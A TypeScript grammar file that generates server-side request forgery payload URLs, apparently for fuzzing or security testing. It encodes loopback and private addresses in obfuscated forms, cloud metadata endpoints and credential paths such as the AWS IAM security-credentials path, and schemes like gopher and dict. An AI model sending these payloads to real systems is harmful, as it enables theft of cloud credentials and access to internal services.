import type { Grammar } from '../grammar.ts';
import { words } from '../words.ts';

/** Server-side request forgery (CWE-918). */
export const ssrf: Grammar = {
  ...words,
  start: [
    '<scheme>://<target><port><path>',
    'http://<user>@<target>/<ident>',
    '//<target><path>',
    'http://<host>#@<target>/',
    'http://<host>\\@<target><path>',
    'https://<host>/<ident>?url=http://<target><path>',
  ],
  scheme: ['http', 'https', 'http', 'gopher', 'dict', 'ftp', 'ldap', 'tftp', 'jar:http'],
  user: ['<host>', '<ident>:<ident>'],
  target: [
    '127.0.0.1',
    '127.<digit>.<digit>.1',
    '169.254.169.254',
    'localhost',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '0',
    '10.0.<digit>.<number>',
    '192.168.<digit>.<digit>',
    'metadata.google.internal',
    '100.100.100.200',
    '127.0.0.1.nip.io',
    '①②⑦.⓪.⓪.①',
    '0x7f.1',
    'localtest.me',
  ],
  port: ['', ':80', ':22', ':6379', ':8080', ':9200', ':2375'],
  path: [
    '/',
    '/latest/meta-data/iam/security-credentials/',
    '/computeMetadata/v1/',
    '/admin',
    '/_cat/indices',
    '/metadata/instance?api-version=2021-02-01',
    '/<ident>',
  ],
};
